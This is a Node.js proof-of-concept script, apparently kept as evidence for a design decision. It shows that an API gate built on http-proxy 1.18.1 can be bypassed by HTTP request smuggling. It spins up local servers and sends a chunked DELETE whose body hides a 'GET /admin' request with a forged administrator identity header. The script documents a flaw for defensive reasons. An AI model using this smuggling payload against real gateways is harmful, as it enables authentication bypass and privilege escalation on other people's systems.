// Shows that a gate built on http-proxy 1.18.1 lets a caller smuggle a request with a forged
// identity: the body of a DELETE is written to the upstream unframed, on a connection that is kept.
//
//   node docs/decisions/evidence/http-proxy-smuggling.mjs
//
// Prints what the upstream saw; exits 0 when the smuggled request arrived, 1 when it did not.
import http from 'node:http'
import net from 'node:net'
import httpProxy from 'http-proxy'

const listen = (server) =>
  new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server.address().port)))

// The service behind the gate: it believes the identity header, as every such service must.
const seen = []
const service = http.createServer((request, response) => {
  seen.push(`${request.method} ${request.url} as ${request.headers['x-authenticated-user']}`)
  request.resume()
  request.on('end', () => response.end('ok'))
})
const servicePort = await listen(service)

// The gate, as one would write it: check the key, remove the caller's identity header, set ours.
const agent = new http.Agent({ keepAlive: true })
const proxy = httpProxy.createProxyServer({ target: `http://127.0.0.1:${servicePort}`, agent })
proxy.on('error', () => {})
const gate = http.createServer((request, response) => {
  if (request.headers['x-api-key'] !== 'key-of-mallory') {
    response.writeHead(401).end()
    return
  }
  delete request.headers['x-api-key']
  request.headers['x-authenticated-user'] = 'mallory'
  proxy.web(request, response)
})
const gatePort = await listen(gate)

const smuggled =
  'GET /admin HTTP/1.1\r\nHost: service\r\nX-Authenticated-User: administrator\r\n\r\n'
const attack = [
  'DELETE /nothing HTTP/1.1',
  'Host: service',
  'X-API-Key: key-of-mallory',
  'Transfer-Encoding: chunked',
  '',
  Buffer.byteLength(smuggled).toString(16),
  smuggled,
  '0',
  '',
  '',
].join('\r\n')

const client = net.connect(gatePort, '127.0.0.1', () => client.write(attack))
client.resume()
client.on('error', () => {})
await new Promise((resolve) => setTimeout(resolve, 1000))

console.log(`mallory sent one request: DELETE /nothing\nthe service saw ${seen.length}:`)
for (const line of seen) console.log(`  ${line}`)
const isSmuggled = seen.some((line) => line.endsWith('as administrator'))
console.log(isSmuggled ? 'SMUGGLED: the forged identity was believed' : 'not smuggled')

client.destroy()
agent.destroy()
gate.close()
service.close()
service.closeAllConnections()
gate.closeAllConnections()
process.exitCode = isSmuggled ? 0 : 1
